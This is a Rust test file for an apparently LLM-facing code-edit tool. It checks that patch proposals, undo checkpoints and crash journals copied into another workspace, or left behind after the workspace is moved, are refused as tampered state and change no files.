    fn open(&self, ws: &str) -> Workflow {
        let tools = Arc::new(Tools::new(
            Workspace::open(self.root(ws)).unwrap(),
            None,
            ToolsConfig::default(),
        ));
        Workflow::open(
            tools,
            WorkflowConfig {
                event_log: false,
                key_dir: Some(self.base.join("key")),
                ..WorkflowConfig::unrestricted()
            },
        )
        .unwrap()
    }

    fn read(&self, ws: &str, rel: &str) -> String {
        std::fs::read_to_string(self.root(ws).join(rel)).unwrap()
    }

    /// Copy `.lspedit/<rel>` (a file or a directory tree) of `a` into `b`, as a model or a
    /// person copying files would: new files with the same bytes.
    fn copy_state(&self, rel: &str) {
        fn copy(from: &Path, to: &Path) {
            if from.is_dir() {
                std::fs::create_dir_all(to).unwrap();
                for e in std::fs::read_dir(from).unwrap() {
                    let e = e.unwrap();
                    copy(&e.path(), &to.join(e.file_name()));
                }
            } else {
                std::fs::create_dir_all(to.parent().unwrap()).unwrap();
                std::fs::write(to, std::fs::read(from).unwrap()).unwrap();
            }
        }
        copy(
            &self.root("a").join(".lspedit").join(rel),
            &self.root("b").join(".lspedit").join(rel),
        );
    }
}

#[test]
fn a_proposal_copied_into_another_workspace_is_tampered_state() {
    let t = Two::new(&[("a.txt", "a\nb\nc\n")]);
    let (a, b) = (t.open("a"), t.open("b"));
    let p = a
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap();
    let file = format!(".lspedit/patches/{}.json", p.patch_id);
    t.copy_state(&format!("patches/{}.json", p.patch_id));
    for plan in [
        ApplyPlan::default(),
        ApplyPlan {
            atomicity: Atomicity::PerFile,
            ..ApplyPlan::default()
        },
    ] {
        let out = b.apply_edit(&p.patch_id, &plan);
        assert_tampered(&out, &[&file, "another workspace"]);
        assert_eq!(t.read("b", "a.txt"), "a\nb\nc\n", "nothing written in b");
    }
    assert!(!t.root("b").join(".lspedit/checkpoints").exists());
    let err = b.proposal(&p.patch_id).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert_eq!(err.path.as_deref(), Some(file.as_str()));
    // In the workspace it was proposed in, the same proposal shows and applies.
    assert_eq!(a.proposal(&p.patch_id).unwrap().diff, p.diff);
    let out = a.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
    assert_eq!(t.read("a", "a.txt"), "a\nB\nc\n");
}

#[test]
fn a_checkpoint_copied_into_another_workspace_is_not_restored() {
    let t = Two::new(&[("a.txt", "a\nb\nc\n")]);
    let (a, b) = (t.open("a"), t.open("b"));
    let p = a
        .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
        .unwrap();
    let out = a.apply_edit(&p.patch_id, &ApplyPlan::default());
    assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
    let ckpt = out.checkpoint_id.unwrap();
    // b's file is what the checkpoint says the apply left: every other check of undo passes.
    std::fs::write(t.root("b").join("a.txt"), "a\nB\nc\n").unwrap();
    t.copy_state(&format!("checkpoints/{ckpt}"));
    let err = b.undo(&ckpt).unwrap_err();
    assert_eq!(err.reason, Reason::TamperedState, "{err}");
    assert_eq!(
        err.path.as_deref(),
        Some(format!(".lspedit/checkpoints/{ckpt}/checkpoint.json").as_str())
    );
    assert!(err.message.contains("in this workspace"), "{err}");
    assert_eq!(t.read("b", "a.txt"), "a\nB\nc\n", "nothing restored in b");

    // Nor through a crash journal naming it: the journal is kept and nothing is rolled back.
    let txn = "txn_1700000000000_deadbeefdeadbeefdeadbeefdeadbeef";
    let journal = serde_json::json!({
        "txn_id": txn,
        "patch_id": p.patch_id,
        "checkpoint_id": ckpt,
        "created_ms": 1_700_000_000_000_u64,
        "pid": 1,
        "entries": [
            { "path": "a.txt", "old_sha": base_sha(b"a\nb\nc\n"), "new_sha": base_sha(b"a\nB\nc\n"), "tmp": null },
        ],
    });
    let file = t
        .root("b")
        .join(".lspedit/journal")
        .join(format!("{txn}.json"));
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, serde_json::to_vec(&journal).unwrap()).unwrap();
    let b2 = t.open("b");
    assert!(b2.recovered().is_empty(), "{:?}", b2.recovered());
    assert!(file.exists(), "kept for inspection");
    assert_eq!(
        t.read("b", "a.txt"),
        "a\nB\nc\n",
        "nothing rolled back in b"
    );

    // In the workspace it was made in, the same checkpoint undoes the apply, and its redo
    // checkpoint redoes it.
    let undone = a.undo(&ckpt).unwrap();
    assert_eq!(t.read("a", "a.txt"), "a\nb\nc\n");
    a.undo(&undone.redo_checkpoint_id).unwrap();
    assert_eq!(t.read("a", "a.txt"), "a\nB\nc\n");
}

// The identity is the root's canonical path: a workspace moved elsewhere refuses the proposals
// and checkpoints it made before, and takes them again once back where they were made.
#[test]
fn a_moved_workspace_refuses_its_earlier_state_until_moved_back() {
    let t = Two::new(&[("a.txt", "a\nb\nc\n"), ("b.txt", "a\nb\nc\n")]);
    let (pending, ckpt) = {
        let a = t.open("a");
        let pending = a
            .propose_edit(&ProposeRequest::patch(replace_diff("b.txt", "b", "B")))
            .unwrap();
        let p = a
            .propose_edit(&ProposeRequest::patch(replace_diff("a.txt", "b", "B")))
            .unwrap();
        let out = a.apply_edit(&p.patch_id, &ApplyPlan::default());
        assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
        (pending.patch_id, out.checkpoint_id.unwrap())
    };
    std::fs::rename(t.root("a"), t.root("moved")).unwrap();
    let moved = t.open("moved");
    let out = moved.apply_edit(&pending, &ApplyPlan::default());
    assert_tampered(&out, &[&pending, "before the workspace moved"]);
    assert_eq!(moved.undo(&ckpt).unwrap_err().reason, Reason::TamperedState);
    assert_eq!(t.read("moved", "b.txt"), "a\nb\nc\n");
    assert_eq!(t.read("moved", "a.txt"), "a\nB\nc\n");
    drop(moved);
    std::fs::rename(t.root("moved"), t.root("a")).unwrap();
    let a = t.open("a");
    let out = a.apply_edit(&pending, &ApplyPlan::default());
    assert_eq!(out.status, ApplyStatus::Applied, "{}", out.llm_content);
    a.undo(&ckpt).unwrap();
    assert_eq!(t.read("a", "a.txt"), "a\nb\nc\n");
}
